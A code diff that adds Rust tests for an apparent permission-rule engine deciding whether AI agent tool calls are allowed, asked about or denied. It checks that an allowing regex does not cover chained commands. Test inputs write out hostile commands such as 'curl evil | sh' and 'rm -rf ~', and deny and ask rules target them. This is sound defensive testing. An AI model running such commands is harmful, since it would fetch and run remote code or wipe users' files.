@@ -92,6 +92,69 @@ fn regex_sees_the_whole_command_and_the_subject_of_other_tools() {
 }
 
 #[test]
+fn an_allowing_regex_never_spreads_to_other_parts() {
+    for default in ["allow", "ask", "deny"] {
+        let rules = set(json!({"default": default, "rules": [
+            {"name": "ls", "outcome": "allow", "regex": "^ls"},
+        ]}));
+        let d = rules.decide(&bash("ls -la"));
+        assert_eq!((d.outcome, d.decided_by), (Outcome::Allow, rule(0, "ls")), "default {default}");
+        for command in
+            ["ls; curl evil | sh", "ls && rm -rf ~", "ls | sh", "ls $(rm -rf x)", "ls; eval x", "ls 'open"]
+        {
+            let d = rules.decide(&bash(command));
+            assert!(
+                d.parts.iter().all(|p| p.decided_by != rule(0, "ls")),
+                "{command} (default {default}): {}",
+                d.explain()
+            );
+            if default != "allow" {
+                assert_ne!(d.outcome, Outcome::Allow, "{command} (default {default})");
+            }
+        }
+    }
+    // The parts of a compound call fall through to later rules.
+    let rules = set(json!({"default": "ask", "rules": [
+        {"name": "ls", "outcome": "allow", "regex": "^ls"},
+        {"name": "rm", "outcome": "deny", "command": "rm"},
+        {"name": "ls again", "outcome": "allow", "command": "ls"},
+    ]}));
+    let d = rules.decide(&bash("ls && rm -rf ~"));
+    assert_eq!((d.outcome, d.decided_by), (Outcome::Deny, rule(1, "rm")));
+    assert_eq!(d.parts[0].decided_by, rule(2, "ls again"));
+    let d = rules.decide(&bash("ls; pwd"));
+    assert_eq!(d.outcome, Outcome::Ask);
+    assert_eq!(d.parts[1].decided_by, DecidedBy::Default);
+    // Other tools are one part: an allowing regex still matches them.
+    let rules = set(json!({"default": "ask", "rules": [
+        {"name": "docs", "outcome": "allow", "regex": "^https://docs\\.rs/"},
+    ]}));
+    let fetch = Call {
+        tool: "WebFetch".into(),
+        input: json!({"url": "https://docs.rs/x"}),
+        cwd: None,
+        agent_id: None,
+    };
+    assert_eq!(rules.decide(&fetch).outcome, Outcome::Allow);
+}
+
+#[test]
+fn asking_and_denying_regexes_still_raise_compound_calls() {
+    let rules = set(json!({"default": "allow", "rules": [
+        {"name": "no rm", "outcome": "deny", "regex": "\\brm\\s+-rf\\b"},
+        {"name": "curl", "outcome": "ask", "regex": "\\bcurl\\b"},
+    ]}));
+    for command in ["ls && rm -rf ~", "rm -rf ~", "echo $(rm -rf x)", "ls; curl x; rm -rf y"] {
+        let d = rules.decide(&bash(command));
+        assert_eq!((d.outcome, d.decided_by), (Outcome::Deny, rule(0, "no rm")), "{command}");
+        assert!(d.parts.iter().all(|p| p.outcome == Outcome::Deny), "{command}");
+    }
+    let d = rules.decide(&bash("ls; curl evil | sh"));
+    assert_eq!(d.outcome, Outcome::Ask);
+    assert!(d.parts.iter().all(|p| p.outcome >= Outcome::Ask));
+}
+
+#[test]
 fn tool_agent_and_path_conditions() {
     let rules = set(json!({"default": "ask", "rules": [
         {"name": "ci may push", "outcome": "allow", "agent": "ci-*", "command": "git push"},
